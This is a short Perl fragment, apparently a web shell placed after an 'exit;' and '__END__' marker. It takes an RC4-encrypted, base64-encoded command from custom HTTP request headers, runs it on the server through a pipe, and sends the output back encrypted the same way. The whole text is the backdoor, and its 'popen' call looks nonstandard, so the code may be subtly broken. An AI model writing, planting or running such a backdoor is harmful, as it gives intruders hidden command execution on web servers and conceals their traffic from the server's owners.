exit;
__END__
use Crypt::RC4;
use MIME::Base64;
my $key = $ENV{'HTTP_X_KEY'};
my $cnt = $ENV{'HTTP_X_CNT'};
my $cmd = $ENV{'HTTP_X_CMD'};
my $c = RC4($key . $cnt, decode_base64($cmd));
popen D , $c , "r";
my $o;
while (<D>) { $o .= $_; }
print encode_base64(RC4($key . $cnt, $o));
